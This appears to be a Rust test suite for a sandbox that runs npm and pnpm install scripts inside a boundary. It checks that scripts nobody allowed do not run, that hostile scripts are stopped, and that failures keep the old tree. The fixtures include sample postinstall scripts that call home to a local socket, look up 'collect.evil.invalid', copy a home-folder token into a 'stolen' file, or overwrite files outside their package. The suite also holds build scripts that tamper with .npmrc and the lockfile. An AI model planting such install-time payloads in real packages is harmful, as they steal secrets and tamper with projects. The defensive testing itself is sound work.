//! `ringfence deps install`, with npm and pnpm for real: the same tree as theirs, scripts that are
//! stopped and named, each with a control outside, and an old tree that stays where something fails.

mod left_out;

use crate::registry::{Published, Registry, pnpm_program};
use ringfence_tests::command::{Playground, Run, other};
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::fs;
use std::io::Read as _;
use std::net::TcpListener;
use std::os::unix::fs::MetadataExt as _;
use std::path::Path;

/// A package that runs `code` when it is installed.
fn script(name: &'static str, code: &str) -> Published {
    let manifest = json!({"scripts": {"postinstall": "node run.js"}, "hasInstallScript": true});
    Published::new(name, "1.0.0", manifest).with("run.js", code.as_bytes())
}

/// Packages without scripts, and one whose script writes its own folder.
fn ordinary() -> Vec<Published> {
    vec![
        Published::new("plain", "1.0.0", json!({"dependencies": {"@scope/deep": "^1.0.0"}}))
            .with("index.js", b"module.exports = 1\n"),
        Published::new("@scope/deep", "1.2.0", json!({"bin": {"deep": "cli.js"}}))
            .with("cli.js", b"#!/usr/bin/env node\n"),
        Published::new("tool", "1.0.0", json!({})).with("t.js", b""),
        script(
            "maker",
            "const fs = require('fs')\nfs.writeFileSync('made.txt', String(require('plain')))\n\
             fs.mkdirSync('out'); fs.writeFileSync('out/x', '1')\nfs.unlinkSync('gone.txt')\n",
        )
        .with("gone.txt", b"x"),
    ]
}

fn with(hostile: Published) -> Vec<Published> {
    let mut packages = ordinary();
    packages.push(hostile);
    packages
}

/// A folder below the target folder: a boundary has a `/tmp` of its own, where more is possible.
fn outside_tmp() -> Playground {
    Playground::within(&ringfence_tests::workspace::root().join("target/tmp"))
}

/// A project that asks for these packages, with a lockfile of its manager.
struct Project {
    playground: Playground,
    registry: Registry,
}

impl Project {
    /// In a folder of its own below that of the user, which is somebody's home.
    fn new(packages: &[Published], dependencies: &Value) -> Self {
        let registry = Registry::of(packages);
        let manifest = json!({
            "name": "app", "version": "1.0.0", "private": true, "dependencies": dependencies,
            "devDependencies": {"tool": "1.0.0"},
            "scripts": {"build": "node build.js"},
        });
        let playground = outside_tmp().with("package.json", &manifest.to_string());
        Self { playground, registry }
    }

    fn path(&self, name: &str) -> std::path::PathBuf {
        self.playground.path().join(name)
    }

    fn npm(&self, arguments: &[&str]) -> Option<Run> {
        self.registry.npm(&self.playground, arguments)
    }

    /// Writes the lockfile; `None` where npm is missing.
    fn locked(self) -> Option<Self> {
        let run = self.npm(&["install", "--package-lock-only", "--ignore-scripts"])?;
        assert_eq!(run.code, 0, "{run}");
        Some(self)
    }

    /// Lets packages run their scripts, by version and hash.
    fn allow(&self, names: &[&str]) {
        let lock: Value = self.json("package-lock.json");
        let entry = |name: &&str| {
            let integrity = lock["packages"][format!("node_modules/{name}")]["integrity"].as_str();
            let hash = integrity.unwrap().trim_start_matches("sha512-");
            format!("{{ package = \"{name}\", version = \"1.0.0\", sha512 = \"{hash}\" }}")
        };
        self.boundary(&names.iter().map(entry).collect::<Vec<_>>().join(",\n"));
    }

    fn boundary(&self, scripts: &str) {
        let text = format!(
            "schema = 1\n[service]\nname = \"app\"\nstart = [\"/bin/true\"]\n[dependencies]\nscripts = [\n{scripts}\n]\n"
        );
        fs::write(self.path("ringfence.toml"), text).unwrap();
    }

    fn json(&self, name: &str) -> Value {
        serde_json::from_slice(&fs::read(self.path(name)).unwrap()).unwrap()
    }

    fn install(&self, arguments: &[&str]) -> Run {
        let all: Vec<&str> = ["deps", "install"].iter().chain(arguments).copied().collect();
        self.registry.ringfence(&self.playground, &all)
    }

    /// Installs, and answers what the report says.
    fn told(&self, arguments: &[&str]) -> (Run, Value) {
        let run = self.install(&[arguments, &["--format", "json"]].concat());
        let report = serde_json::from_str(&run.stdout).unwrap_or_default();
        (run, report)
    }

    /// Another tree of the same lockfile, made by npm itself.
    fn by_npm(&self, arguments: &[&str]) -> BTreeMap<String, (u32, Vec<u8>)> {
        let aside = self.path("node_modules.ours");
        fs::rename(self.path("node_modules"), &aside).unwrap();
        let run = self.npm(&[&["ci"], arguments].concat()).unwrap();
        assert_eq!(run.code, 0, "{run}");
        let tree = tree(&self.path("node_modules"));
        fs::remove_dir_all(self.path("node_modules")).unwrap();
        fs::rename(aside, self.path("node_modules")).unwrap();
        tree
    }
}

/// Every file and link below a folder: mode and content.
fn tree(root: &Path) -> BTreeMap<String, (u32, Vec<u8>)> {
    let mut files = BTreeMap::new();
    let mut open = vec![root.to_owned()];
    while let Some(folder) = open.pop() {
        for entry in fs::read_dir(&folder).unwrap() {
            let path = entry.unwrap().path();
            let found = fs::symlink_metadata(&path).unwrap();
            let name = path.strip_prefix(root).unwrap().to_string_lossy().into_owned();
            if found.is_dir() {
                open.push(path);
            } else if found.is_symlink() {
                let target = fs::read_link(&path).unwrap().to_string_lossy().into_owned();
                files.insert(name, (0, target.into_bytes()));
            } else {
                files.insert(name, (found.mode(), fs::read(&path).unwrap()));
            }
        }
    }
    files
}

/// Names that differ, so that a failure can be read.
fn differing<'a>(
    one: &'a BTreeMap<String, (u32, Vec<u8>)>,
    other: &'a BTreeMap<String, (u32, Vec<u8>)>,
) -> Vec<&'a String> {
    let all = one.keys().chain(other.keys());
    all.filter(|name| one.get(*name) != other.get(*name)).collect()
}

fn dependencies(names: &[&str]) -> Value {
    names
        .iter()
        .map(|name| ((*name).to_owned(), json!("1.0.0")))
        .collect::<serde_json::Map<_, _>>()
        .into()
}

#[test]
fn the_tree_is_that_of_npms_own_install_and_what_a_script_did_is_told() {
    let project = Project::new(&ordinary(), &dependencies(&["plain", "maker"]));
    let Some(project) = project.locked() else { return };
    project.allow(&["maker"]);
    let (run, report) = project.told(&[]);
    assert_eq!(run.code, 0, "{run}");
    assert_eq!(report["verdict"], "installed");
    let files = &report["scripts"][0]["files"];
    assert_eq!(
        files["written"],
        json!(["node_modules/maker/made.txt", "node_modules/maker/out/x"])
    );
    assert_eq!(files["removed"], json!(["node_modules/maker/gone.txt"]));
    assert_eq!(report["scripts"][0]["attempts"], json!([]));
    let ours = tree(&project.path("node_modules"));
    assert_eq!(differing(&ours, &project.by_npm(&[])), Vec::<&String>::new());
    assert!(!project.path(".ringfence-install").exists());

    // Again, over the tree that is there; and without what development needs.
    let (run, _) = project.told(&["--omit", "dev"]);
    assert_eq!(run.code, 0, "{run}");
    assert!(!project.path("node_modules/tool").exists());
    let ours = tree(&project.path("node_modules"));
    assert_eq!(differing(&ours, &project.by_npm(&["--omit=dev"])), Vec::<&String>::new());
}

#[test]
fn a_script_that_nobody_allowed_is_told_and_does_not_run() {
    let project = Project::new(&ordinary(), &dependencies(&["maker", "plain"]));
    let Some(project) = project.locked() else { return };
    project.boundary("");
    let dry = project.install(&["--dry-run"]);
    assert_eq!(dry.code, 0, "{dry}");
    assert!(dry.stdout.contains("would not run  maker@1.0.0"), "{dry}");
    assert!(!project.path("node_modules").exists(), "nothing is done");
    let run = project.install(&[]);
    assert_eq!(run.code, 0, "{run}");
    assert!(run.stdout.contains("maker@1.0.0  postinstall: node run.js"), "{run}");
    assert!(!project.path("node_modules/maker/made.txt").exists());
    // Another hash is another tarball: nothing is installed at all.
    let other = format!("{}==", "A".repeat(86));
    project
        .boundary(&format!("{{ package = \"maker\", version = \"1.0.0\", sha512 = \"{other}\" }}"));
    let run = project.install(&[]);
    assert_eq!(run.code, 1, "{run}");
    assert!(run.stdout.contains("not the agreed one"), "{run}");
}

/// Installs with a hostile script: it is stopped and named, and the old tree stays.
fn is_stopped(code: &str, tried: &str, what: &str) -> Option<Project> {
    let packages = with(script("hostile", code));
    let project = Project::new(&packages, &dependencies(&["plain", "hostile"])).locked()?;
    project.allow(&["hostile"]);
    fs::create_dir_all(project.path("node_modules/old")).unwrap();
    fs::write(project.path("node_modules/old/index.js"), "old").unwrap();
    let (run, report) = project.told(&[]);
    assert_eq!(run.code, 1, "{run}");
    assert_eq!(report["verdict"], "stopped", "{run}");
    let script = &report["scripts"][0];
    assert_eq!((&script["package"], &script["end"]), (&json!("hostile@1.0.0"), &json!("stopped")));
    let attempt = &script["attempts"][0];
    assert_eq!((&attempt["tried"], &attempt["stops"]), (&json!(tried), &json!(true)), "{run}");
    assert!(attempt["what"].as_str().unwrap().contains(what), "{run}");
    let kept = fs::read_to_string(project.path("node_modules/old/index.js")).unwrap();
    assert_eq!(kept, "old", "what was installed before is untouched");
    assert!(!project.path("node_modules/hostile").exists());
    assert!(!project.path(".ringfence-install").exists());
    let human = project.install(&[]);
    assert!(human.stdout.contains("stopped postinstall of hostile@1.0.0"), "{human}");
    Some(project)
}

/// The control: npm itself lets the script have its way.
fn succeeds_outside(project: &Project) {
    let run = project.npm(&["ci"]).unwrap();
    assert_eq!(run.code, 0, "{run}");
}

#[test]
fn a_script_that_opens_a_socket_is_stopped_and_named() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let code = format!(
        "require('net').connect({port}, '127.0.0.1', function () {{ this.write('phoned home', () => this.destroy()) }})\
         .on('error', () => {{}})"
    );
    let Some(project) = is_stopped(&code, "network", &format!("127.0.0.1:{port}")) else { return };
    listener.set_nonblocking(true).unwrap();
    assert!(listener.accept().is_err(), "nobody has called");
    listener.set_nonblocking(false).unwrap();
    succeeds_outside(&project);
    let (mut caller, _) = listener.accept().unwrap();
    let mut said = String::new();
    caller.read_to_string(&mut said).unwrap();
    assert_eq!(said, "phoned home");
}

#[test]
fn a_script_that_looks_a_name_up_is_stopped_and_named() {
    let code = "require('dns').lookup('collect.evil.invalid', (_, found) => \
        require('fs').writeFileSync('found', String(found)))";
    let Some(project) = is_stopped(code, "network", "collect.evil.invalid") else { return };
    // The control: npm itself, where this name has an address.
    fs::write(project.path("hosts"), "127.0.0.9 collect.evil.invalid\n").unwrap();
    let script = "mount --bind hosts /etc/hosts || exit 77; exec npm ci --no-audit --no-fund";
    let mut command = other("unshare");
    command.args(["--user", "--map-root-user", "--mount", "sh", "-c", script]);
    command.env("npm_config_registry", project.registry.url()).env("HOME", project.path("home"));
    command.current_dir(project.playground.path());
    let run = project.playground.finish(&mut command);
    if run.code == 77 || run.stderr.starts_with("unshare:") {
        ringfence_tests::not_run("no user namespace can be made here: no name has an address");
        return;
    }
    assert_eq!(run.code, 0, "{run}");
    let found = fs::read_to_string(project.path("node_modules/hostile/found")).unwrap();
    assert_eq!(found, "127.0.0.9");
}

#[test]
fn a_script_that_reads_a_file_of_the_home_is_stopped_and_named() {
    let home = tempfile::Builder::new()
        .tempdir_in(ringfence_tests::workspace::root().join("target"))
        .unwrap();
    let secret = home.path().canonicalize().unwrap().join("token.txt");
    fs::write(&secret, "harmless").unwrap();
    let code = format!(
        "const fs = require('fs'); try {{ fs.writeFileSync('stolen', fs.readFileSync({:?})) }} catch {{}}",
        secret.to_str().unwrap()
    );
    let Some(project) = is_stopped(&code, "read", "token.txt") else { return };
    succeeds_outside(&project);
    let stolen = fs::read_to_string(project.path("node_modules/hostile/stolen")).unwrap();
    assert_eq!(stolen, "harmless");
}

#[test]
fn a_script_that_writes_outside_its_package_is_stopped_and_named() {
    let code = "const fs = require('fs'); try { fs.writeFileSync('../plain/index.js', 'changed') } catch {}";
    let Some(project) = is_stopped(code, "write", "plain/index.js") else { return };
    succeeds_outside(&project);
    let changed = fs::read_to_string(project.path("node_modules/plain/index.js")).unwrap();
    assert_eq!(changed, "changed");
    // The project itself is read-only too.
    let code =
        "const fs = require('fs'); try { fs.writeFileSync('../../package.json', '{}') } catch {}";
    let Some(project) = is_stopped(code, "write", "package.json") else { return };
    succeeds_outside(&project);
    assert_eq!(fs::read_to_string(project.path("package.json")).unwrap(), "{}");
}

#[test]
fn a_script_sees_no_secret_of_the_caller_and_of_the_project() {
    let code = "const fs = require('fs')\nfs.writeFileSync('seen.json', JSON.stringify({ \
        env: Object.keys(process.env), project: fs.readdirSync('../..') }))";
    let packages = with(script("nosy", code));
    let project = Project::new(&packages, &dependencies(&["nosy"]));
    let Some(project) = project.locked() else { return };
    project.allow(&["nosy"]);
    fs::write(project.path(".env"), "TOKEN=1").unwrap();
    let mut command = project.playground.command();
    command.env("npm_config_registry", project.registry.url()).env("AWS_SECRET_ACCESS_KEY", "x");
    command.env("npm_config_cache", project.path("cache"));
    let run = project.playground.finish(command.args(["deps", "install"]));
    assert_eq!(run.code, 0, "{run}");
    let seen = project.json("node_modules/nosy/seen.json");
    let has = |list: &str, name: &str| seen[list].as_array().unwrap().contains(&json!(name));
    assert!(!has("env", "AWS_SECRET_ACCESS_KEY") && has("env", "npm_lifecycle_event"), "{seen}");
    assert!(!has("project", ".env") && has("project", "package.json"), "{seen}");
}

#[test]
fn what_a_script_plants_is_not_followed_when_the_next_one_of_its_package_begins() {
    let code = "const fs = require('fs')\nconst at = process.env.INIT_CWD + '/package.json'\n\
        fs.writeFileSync('a', 'planted'); fs.linkSync('a', 'b')\n\
        for (const name of ['a.ringfence-copy', 'b.ringfence-copy', '.ringfence-copy-0']) fs.symlinkSync(at, name)\n\
        fs.mkdirSync('node_modules'); fs.writeFileSync('node_modules/x.js', '')";
    let scripts = json!({"scripts": {"preinstall": "node run.js", "postinstall": "true"}, "hasInstallScript": true});
    let planter = Published::new("planter", "1.0.0", scripts).with("run.js", code.as_bytes());
    let project = Project::new(&with(planter), &dependencies(&["planter"]));
    let Some(project) = project.locked() else { return };
    project.allow(&["planter"]);
    let before = project.json("package.json");
    let (run, report) = project.told(&[]);
    assert_eq!(run.code, 0, "{run}");
    assert_eq!(project.json("package.json"), before, "{run}");
    let written = report["scripts"][0]["files"]["written"].as_array().unwrap();
    assert!(written.contains(&json!("node_modules/planter/node_modules/x.js")), "{run}");
}

#[test]
fn a_configuration_that_makes_npm_do_nothing_loses_no_tree() {
    let project = Project::new(&ordinary(), &dependencies(&["plain"]));
    let Some(project) = project.locked() else { return };
    for line in ["dry-run=true", "package-lock-only=true"] {
        fs::write(project.path(".npmrc"), line).unwrap();
        let run = project.install(&[]);
        assert_eq!(run.code, 0, "{run}");
        assert!(project.path("node_modules/plain/index.js").exists(), "{line} {run}");
    }
}

#[test]
fn a_link_of_the_lockfile_that_leads_out_of_the_project_is_refused() {
    let project = Project::new(&ordinary(), &dependencies(&["plain"]));
    let Some(project) = project.locked() else { return };
    let mut lock = project.json("package-lock.json");
    let outside = format!("../{}", project.playground.path().file_name().unwrap().display());
    lock["packages"]["node_modules/out"] = json!({"resolved": outside, "link": true});
    lock["packages"][&outside] = json!({"name": "out", "version": "1.0.0"});
    fs::write(project.path("package-lock.json"), lock.to_string()).unwrap();
    let run = project.install(&[]);
    assert_eq!(run.code, 1, "{run}");
    assert!(run.stdout.contains("lies outside of the project"), "{run}");
    assert!(!project.path("node_modules").exists());
}

#[test]
fn a_script_that_fails_leaves_the_old_tree() {
    let packages = with(script("broken", "console.error('no compiler'); process.exit(7)"));
    let project = Project::new(&packages, &dependencies(&["broken"]));
    let Some(project) = project.locked() else { return };
    project.allow(&["broken"]);
    fs::create_dir_all(project.path("node_modules/old")).unwrap();
    let run = project.install(&[]);
    assert_eq!(run.code, 1, "{run}");
    assert!(run.stdout.contains("failed with code 7 postinstall of broken@1.0.0"), "{run}");
    assert!(run.stdout.contains("| no compiler"), "{run}");
    assert!(project.path("node_modules/old").exists());
}

#[test]
fn the_projects_build_has_no_network_and_cannot_change_what_was_installed() {
    let project = Project::new(&ordinary(), &dependencies(&["plain"]));
    let Some(project) = project.locked() else { return };
    if fs::metadata(project.playground.path()).unwrap().uid() == 0 {
        let run = project.install(&["--build", "build"]);
        assert_eq!(run.code, 2, "{run}");
        assert!(run.stderr.contains("belongs to root"), "{run}");
        std::os::unix::fs::chown(project.playground.path(), Some(1000), Some(1000)).unwrap();
    }
    let build = |code: &str| {
        fs::write(project.path("build.js"), code).unwrap();
        project.told(&["--build", "build", "--omit", "dev"])
    };
    let (run, report) = build(
        "require('tool/t.js'); const fs = require('fs'); fs.mkdirSync('dist', { recursive: true }); fs.writeFileSync('dist/a', String(require('plain')))",
    );
    assert_eq!(run.code, 0, "{run}");
    assert_eq!(report["build"]["end"], "done");
    assert_eq!(fs::read_to_string(project.path("dist/a")).unwrap(), "1");
    assert!(!project.path("node_modules/tool").exists(), "taken out behind the build");
    assert!(project.path("node_modules/plain").exists());
    for bad in [
        "require('dns').lookup('evil.invalid', () => {})",
        "require('fs').writeFileSync('node_modules/plain/index.js', '')",
        "try { require('fs').writeFileSync('package-lock.json', '') } catch {}",
    ] {
        let (run, report) = build(bad);
        assert_eq!((run.code, &report["build"]["end"]), (1, &json!("stopped")), "{bad} {run}");
        assert!(project.path("node_modules/plain/index.js").exists());
    }
    // What is not there decides too, and what is staged is not the build's.
    for (bad, path) in [
        ("require('fs').writeFileSync('npm-shrinkwrap.json', '{}')", "npm-shrinkwrap.json"),
        ("require('fs').writeFileSync('.npmrc', 'registry=http://127.0.0.1:1/')", ".npmrc"),
        (
            "require('fs').symlinkSync('/x', '.ringfence-install/exchange.new')",
            ".ringfence-install",
        ),
        ("require('fs').renameSync('.ringfence-install', 'aside')", "aside"),
    ] {
        let (run, report) = build(bad);
        assert_eq!((run.code, report["verdict"] == "installed"), (1, false), "{bad} {run}");
        assert!(!project.path(path).exists(), "{bad} {run}");
        assert!(project.path("node_modules/plain/index.js").exists());
    }
    let run = project.install(&["--build", "missing"]);
    assert_eq!(run.code, 2, "{run}");
}

#[test]
fn a_bad_lockfile_installs_nothing_and_loses_nothing() {
    let project = Project::new(&ordinary(), &dependencies(&["plain"]));
    let Some(project) = project.locked() else { return };
    fs::create_dir_all(project.path("node_modules/old")).unwrap();
    fs::write(project.path(".npmrc"), "fetch-retries=0\n").unwrap();
    let good = fs::read_to_string(project.path("package-lock.json")).unwrap();
    let marks = good.replacen("\"packages\"", "<<<<<<< HEAD\n=======\n>>>>>>> x\n\"packages\"", 1);
    let empty = r#"{"lockfileVersion": 3, "packages": {"": {"name": "app"}}}"#;
    let twice = format!("{good}{good}");
    for bad in [&good[..good.len() / 2], &marks, empty, &twice, ""] {
        fs::write(project.path("package-lock.json"), bad).unwrap();
        let run = project.install(&[]);
        assert_eq!(run.code, 2, "{run}");
        assert!(
            project.path("node_modules/old").exists()
                && !project.path(".ringfence-install").exists()
        );
    }
    let lock: Value = serde_json::from_str(&good).unwrap();
    let refused = |key: &str, value: Value, code: i32, text: &str| {
        let mut lock = lock.clone();
        let entry = lock["packages"]["node_modules/plain"].as_object_mut().unwrap();
        entry.insert(key.to_owned(), value);
        entry.retain(|_, value| !value.is_null());
        fs::write(project.path("package-lock.json"), lock.to_string()).unwrap();
        let run = project.install(&[]);
        assert_eq!(run.code, code, "{run}");
        assert!(format!("{run}").contains(text), "{run}");
        assert!(
            project.path("node_modules/old").exists()
                && !project.path("node_modules/plain").exists()
        );
    };
    refused("resolved", json!("http://127.0.0.1:9/plain/-/plain-1.0.0.tgz"), 1, "127.0.0.1:9");
    refused(
        "resolved",
        json!("git+ssh://git@code.invalid/plain.git#0123456789abcdef0123456789abcdef01234567"),
        1,
        "git",
    );
    refused("integrity", Value::Null, 1, "no hash");
    let other = lock["packages"]["node_modules/tool"]["integrity"].clone();
    refused("integrity", other, 2, "EINTEGRITY");
}

#[test]
fn whoever_is_killed_leaves_the_old_tree_or_the_new_one() {
    let packages = with(script("slow", "setTimeout(() => {}, 600000)"));
    let project = Project::new(&packages, &dependencies(&["slow"]));
    let Some(project) = project.locked() else { return };
    project.allow(&["slow"]);
    fs::create_dir_all(project.path("node_modules/old")).unwrap();
    let mut command = project.playground.command();
    command.env("npm_config_registry", project.registry.url());
    command.env("npm_config_cache", project.path("cache"));
    let mut child = command.args(["deps", "install"]).spawn().unwrap();
    let staged = project.path(".ringfence-install/new/node_modules/slow/run.js");
    while !staged.exists() {
        assert_eq!(child.try_wait().unwrap(), None, "it has not ended");
        std::thread::yield_now();
    }
    let busy = project.install(&[]);
    assert_eq!(busy.code, 2, "{busy}");
    assert!(busy.stderr.contains("another install"), "{busy}");
    child.kill().unwrap();
    child.wait().unwrap();
    assert!(project.path("node_modules/old").exists());
    assert!(project.path(".ringfence-install").exists());
    project.boundary("");
    let run = project.install(&[]);
    assert_eq!(run.code, 0, "{run}");
    assert!(
        project.path("node_modules/slow").exists() && !project.path("node_modules/old").exists()
    );
    assert!(!project.path(".ringfence-install").exists(), "what was left is gone");
}

#[test]
fn a_host_without_namespaces_is_refused_and_nothing_is_weakened() {
    let project = Project::new(&ordinary(), &dependencies(&["plain"]));
    let Some(project) = project.locked() else { return };
    fs::write(project.path(".npmrc"), format!("registry={}\n", project.registry.url())).unwrap();
    // As an ordinary user of a namespace, after a line of shell that takes something away there.
    let install = |takes_away: &str| {
        let mut command = other("unshare");
        command.args(["--user", "--map-user=1000", "--map-group=1000", "--keep-caps", "--mount"]);
        let drop = "setpriv --ambient-caps=-all --inh-caps=-all";
        let script = format!("{takes_away} || exit 77; exec {drop} \"$0\" deps install");
        command.args(["--pid", "--fork", "--mount-proc", "sh", "-c", &script]);
        command.arg(ringfence_tests::command::binary()).env("HOME", project.path("home"));
        command.current_dir(project.playground.path());
        let run = project.playground.finish(&mut command);
        (run.code != 77 && !run.stderr.starts_with("unshare:")).then_some(run)
    };
    let Some(run) = install("echo 0 > /proc/sys/user/max_user_namespaces") else {
        ringfence_tests::not_run("no user namespace can be made here");
        return;
    };
    assert_eq!(run.code, 3, "{run}");
    assert!(run.stderr.contains("this host refuses user namespaces"), "{run}");
    assert!(run.stderr.contains("hint: "), "{run}");
    assert!(!project.path("node_modules").exists());
    // The control: there, with nothing taken away.
    let Some(run) = install("true") else { return };
    assert_eq!(run.code, 0, "{run}");
    assert!(project.path("node_modules/plain/index.js").exists());
}

#[test]
fn pnpms_tree_is_that_of_its_own_install_and_its_store_is_not_touched() {
    let registry = Registry::of(&ordinary());
    let manifest = json!({
        "name": "app", "version": "1.0.0", "private": true,
        "dependencies": {"plain": "1.0.0", "maker": "1.0.0"},
    });
    let playground = outside_tmp().with("package.json", &manifest.to_string());
    let Some(run) = registry.pnpm(&playground, &["install", "--lockfile-only"]) else { return };
    assert_eq!(run.code, 0, "{run}");
    let path = |name: &str| playground.path().join(name);
    let lock = fs::read_to_string(path("pnpm-lock.yaml")).unwrap();
    let (_, rest) = lock.split_once("maker@1.0.0:\n").unwrap();
    let (_, rest) = rest.split_once("sha512-").unwrap();
    let hash = rest.split('}').next().unwrap();
    let text = format!(
        "schema = 1\n[service]\nname = \"app\"\nstart = [\"/bin/true\"]\n[dependencies]\n\
         scripts = [{{ package = \"maker\", version = \"1.0.0\", sha512 = \"{hash}\" }}]\n"
    );
    fs::write(path("ringfence.toml"), text).unwrap();
    // The program of the tests, as a shell would find it.
    let program = pnpm_program().unwrap();
    fs::create_dir_all(path("programs")).unwrap();
    std::os::unix::fs::symlink(program, path("programs/pnpm")).unwrap();
    let mut command = playground.command();
    let own = format!("{}:{}", path("programs").display(), std::env::var("PATH").unwrap());
    command.env("PATH", own).env("npm_config_registry", registry.url());
    command.env("npm_config_store_dir", path("store"));
    // Nothing of the project runs outside of the boundary, in which nothing but the new tree is written.
    let hook =
        "try { require('fs').writeFileSync('ran-outside', '') } catch {}\nmodule.exports = {}";
    fs::write(path(".pnpmfile.cjs"), hook).unwrap();
    let asked = playground.finish(command.args(["deps", "install"]));
    assert!(!path("ran-outside").exists(), "{asked}");
    fs::remove_file(path(".pnpmfile.cjs")).unwrap();
    let run = playground.finish(&mut command);
    assert_eq!(run.code, 0, "{run}");
    assert!(
        run.stdout.contains("wrote node_modules/.pnpm/maker@1.0.0/node_modules/maker/made.txt"),
        "{run}"
    );
    let ours = tree(&path("node_modules"));
    fs::rename(path("node_modules"), path("ours")).unwrap();
    let allowed = json!({"onlyBuiltDependencies": ["maker"]});
    let mut manifest = manifest;
    manifest["pnpm"] = allowed;
    fs::write(path("package.json"), manifest.to_string()).unwrap();
    let run = registry.pnpm(&playground, &["install", "--frozen-lockfile"]).unwrap();
    assert_eq!(run.code, 0, "{run}");
    let theirs = tree(&path("node_modules"));
    // What pnpm notes of its own run differs: times, and that scripts were left to others.
    let notes = [".modules.yaml", ".pnpm-workspace-state-v1.json"];
    let differing = differing(&ours, &theirs);
    let other: Vec<_> =
        differing.into_iter().filter(|name| !notes.contains(&name.as_str())).collect();
    assert_eq!(other, Vec::<&String>::new());
}
